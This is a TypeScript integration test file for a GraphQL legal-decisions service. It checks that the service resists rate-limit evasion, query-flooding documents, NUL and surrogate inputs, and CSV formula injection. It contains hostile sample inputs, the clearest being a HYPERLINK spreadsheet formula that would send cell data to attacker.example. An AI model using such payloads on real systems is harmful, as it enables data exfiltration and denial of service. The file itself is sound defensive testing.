/**
 * Issue 15, items 5–9, through the real HTTP service: the rate limit cannot be dodged by rewriting the
 * Authorization header; documents that are costly to validate are refused cheaply; NUL characters are refused as
 * bad input wherever they come; field suggestions are off with introspection; CSV cells are never formulas.
 */
import { ApiKeyService } from '../../src/access/api-key.service';
import { unitOfWork } from '../../src/db/unit-of-work';
import { ImportService } from '../../src/import/import.service';
import { countRow, toCsv, uniqueTag } from './factories';
import { startTestServer, type TestServer } from './harness';

let server: TestServer;
let monitorKey = '';
beforeAll(async () => {
  server = await startTestServer(undefined, { introspection: false });
  monitorKey = (
    await new ApiKeyService(unitOfWork(server.dataSource)).create(`hostile-${uniqueTag()}`, 'MONITOR')
  ).key;
});
afterAll(() => server.close());

const post = (body: unknown, headers: Record<string, string> = {}) =>
  fetch(server.url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
const codeOf = async (res: Response) => ((await res.json()) as any).errors?.[0]?.extensions?.code;

describe('rate limit: one counter per key or address, however the header is written', () => {
  let limited: TestServer;
  let key = '';
  beforeAll(async () => {
    limited = await startTestServer(undefined, { rateLimitPerMinute: 3 });
    key = (
      await new ApiKeyService(unitOfWork(limited.dataSource)).create(`limited-${uniqueTag()}`, 'MONITOR')
    ).key;
  });
  afterAll(() => limited.close());

  const send = (authorization?: string) =>
    fetch(limited.url, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        ...(authorization === undefined ? {} : { authorization }),
      },
      body: '{"query":"{ health { ok } }"}',
    });

  it('refuses a header that holds no valid key as UNAUTHENTICATED, never as the public', async () => {
    for (const header of [
      ' ',
      '\u00a0',
      'Bearer',
      'Basic abc',
      'Bearer a b',
      'Token x',
      'Bearer klk_unknown',
    ]) {
      const res = await post({ query: '{ health { ok } }' }, { authorization: header });
      expect({ header, status: res.status }).toEqual({ header, status: 401 });
      expect(await codeOf(res)).toBe('UNAUTHENTICATED');
    }
  });

  it('counts every spacing of one key on that key’s counter', async () => {
    const statuses: number[] = [];
    for (const header of [`Bearer ${key}`, `Bearer  ${key}`, `bearer \t ${key} `, `Bearer    ${key}`]) {
      statuses.push((await send(header)).status);
    }
    expect(statuses).toEqual([200, 200, 200, 429]);
  });
});

describe('rate limit: malformed headers share the address’s counter', () => {
  it('counts blank and malformed headers on the address, so they cannot each get a fresh allowance', async () => {
    const limited = await startTestServer(undefined, { rateLimitPerMinute: 3 });
    try {
      const statuses: number[] = [];
      for (const authorization of [' ', '\u00a0', '\u00a0\u00a0', 'Bearer', '']) {
        const res = await fetch(limited.url, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization },
          body: '{"query":"{ health { ok } }"}',
        });
        statuses.push(res.status);
      }
      expect(statuses).toEqual([401, 401, 401, 429, 429]);
      const anonymous = await fetch(limited.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"query":"{ health { ok } }"}',
      });
      expect(anonymous.status).toBe(429);
    } finally {
      await limited.close();
    }
  });
});

describe('documents that are costly to validate are refused before validation', () => {
  it('refuses 740 copies of one field, and a fragment spread hundreds of times, with a code', async () => {
    const repeated = await post({ query: `{ ${'health { ok } '.repeat(740)}}` });
    expect(repeated.status).toBe(400);
    expect(await codeOf(repeated)).toBe('DUPLICATED_FIELDS');
    const spreads = await post({
      query: `{ ...F ${Array.from({ length: 300 }, (_, i) => `a${i}: health { ...G }`).join(' ')} }
        fragment F on Query { health { ok } } fragment G on Health { ok version ok version }`,
    });
    expect(spreads.status).toBe(400);
    expect(['TOO_MANY_ALIASES', 'TOO_MANY_SELECTIONS', 'DUPLICATED_FIELDS']).toContain(await codeOf(spreads));
  });

  it('answers the same refused document again with the same refusal, and ordinary queries meanwhile', async () => {
    const body = { query: `{ ${'health { ok } '.repeat(740)}}` };
    const answers = await Promise.all([
      ...Array.from({ length: 20 }, () => post(body)),
      post({ query: '{ health { ok } }' }),
    ]);
    expect(answers.slice(0, 20).map((r) => r.status)).toEqual(Array(20).fill(400));
    expect(answers[20].status).toBe(200);
  });

  it('still answers queries that select a field a few times through fragments', async () => {
    const res = await post({
      query: `{ provision(citation: "CCK Art. 171") { id ...A ...B } }
        fragment A on Provision { id citation } fragment B on Provision { id citation }`,
    });
    expect(res.status).toBe(200);
  });
});

describe('NUL characters are bad input wherever they come', () => {
  const nul = '\u0000';
  it.each([
    ['a query literal', { query: `{ court(name: "Basic${nul}") { code } }` }],
    ['an escaped query literal', { query: '{ court(name: "Basic\\u0000") { code } }' }],
    ['a braced escape', { query: '{ decision(caseNumber: "P\\u{0}1") { id } }' }],
    ['a filter', { query: `{ decisions(filter: { court: "Basic${nul}" }) { totalCount } }` }],
    [
      'a variable',
      { query: 'query($c: String) { decision(caseNumber: $c) { id } }', variables: { c: `P${nul}` } },
    ],
    ['a variable’s name', { query: '{ health { ok } }', variables: { [`x${nul}`]: 1 } }],
    [
      'a mutation',
      {
        query: `mutation { createDecision(input: { caseNumber: "P${nul}", court: "x", date: "2020-01-01",
          decisionType: FIRST_INSTANCE, provenance: SYNTHETIC }) { ok } }`,
      },
    ],
  ])('in %s', async (_where, body) => {
    const res = await post(body);
    expect(res.status).toBe(400);
    expect(await codeOf(res)).toBe('BAD_USER_INPUT');
  });

  it('in a GET request’s query and variables', async () => {
    for (const search of [
      `?query=${encodeURIComponent('{ court(name: "Basic\u0000") { code } }')}`,
      `?query=${encodeURIComponent('query($c: String!) { court(name: $c) { code } }')}&variables=${encodeURIComponent(
        JSON.stringify({ c: 'a\u0000' }),
      )}`,
    ]) {
      const res = await fetch(`${server.url}${search}`, { headers: { 'apollo-require-preflight': 'true' } });
      expect(res.status).toBe(400);
      expect(await codeOf(res)).toBe('BAD_USER_INPUT');
    }
  });

  it('in a query-string parameter of the CSV export: 400, not 500', async () => {
    for (const search of ['?court=%00', '?provision=CCK%00', '?court=Basic%00Court&year=2016']) {
      const res = await fetch(server.url.replace('/graphql', `/reports/findings.csv${search}`), {
        headers: { authorization: `Bearer ${monitorKey}` },
      });
      expect({ search, status: res.status }).toEqual({ search, status: 400 });
      expect(await codeOf(res)).toBe('BAD_USER_INPUT');
    }
  });
});

describe('field suggestions are off where introspection is', () => {
  it('says a field does not exist without naming the one meant', async () => {
    const res = await post({ query: '{ auditLo { edges { cursor } } }' });
    const { errors } = (await res.json()) as any;
    expect(errors[0].message).toMatch(/Cannot query field "auditLo"/);
    expect(JSON.stringify(errors)).not.toMatch(/auditLog|Did you mean/);
  });

  it('keeps suggestions where introspection is on', async () => {
    const open = await startTestServer(undefined, { introspection: true });
    try {
      const { body } = await open.gql('{ auditLo { edges { cursor } } }');
      expect(body.errors![0].message).toMatch(/Did you mean "auditLog"/);
    } finally {
      await open.close();
    }
  });
});

describe('CSV export: no cell is a formula', () => {
  it('writes a case number that is a formula as text', async () => {
    const caseNumber = `=HYPERLINK("http://attacker.example/?x=${uniqueTag()}"&A1,"open")`;
    // Synthetic decisions are left out of the export unless asked for: this one is reported.
    const row = countRow({
      case_number: caseNumber,
      provenance: 'REPORTED',
      source_url: 'https://news.example/r',
    });
    const importer = new ImportService(unitOfWork(server.dataSource), 'inline');
    expect((await importer.importFile(toCsv([row]), 'csv')).decisions.created).toBe(1);
    const res = await fetch(server.url.replace('/graphql', '/reports/findings.csv?year=2016'), {
      headers: { authorization: `Bearer ${monitorKey}` },
    });
    const lines = (await res.text()).split('\n');
    const line = lines.find((l) => l.includes('HYPERLINK'))!;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(lines.some((l) => /^[=+\-@]/.test(l) || /,[=+\-@]/.test(l))).toBe(false);
  });
});

describe('half a surrogate pair is bad input too', () => {
  it('in a variable, a document string and a body', async () => {
    for (const body of [
      { query: 'query($c: String!) { court(name: $c) { code } }', variables: { c: 'lone \ud800 surrogate' } },
      {
        query: `mutation($i: DecisionInput!) { createDecision(input: $i) { ok } }`,
        variables: {
          i: {
            caseNumber: 'P \ud800',
            court: 'x',
            date: '2021-11-09',
            decisionType: 'APPEAL',
            provenance: 'SYNTHETIC',
          },
        },
      },
    ]) {
      const res = await post(body);
      expect(res.status).toBe(400);
      expect(await codeOf(res)).toBe('BAD_USER_INPUT');
    }
    // Written as an escape in the document, graphql-js refuses it while parsing.
    const escaped = await post({ query: '{ court(name: "lone \\uDC00") { code } }' });
    expect(escaped.status).toBe(400);
    expect(await codeOf(escaped)).toBe('GRAPHQL_PARSE_FAILED');
    expect((await post({ query: '{ court(name: "Prizren 🏛") { code } }' })).status).toBe(200);
  });
});
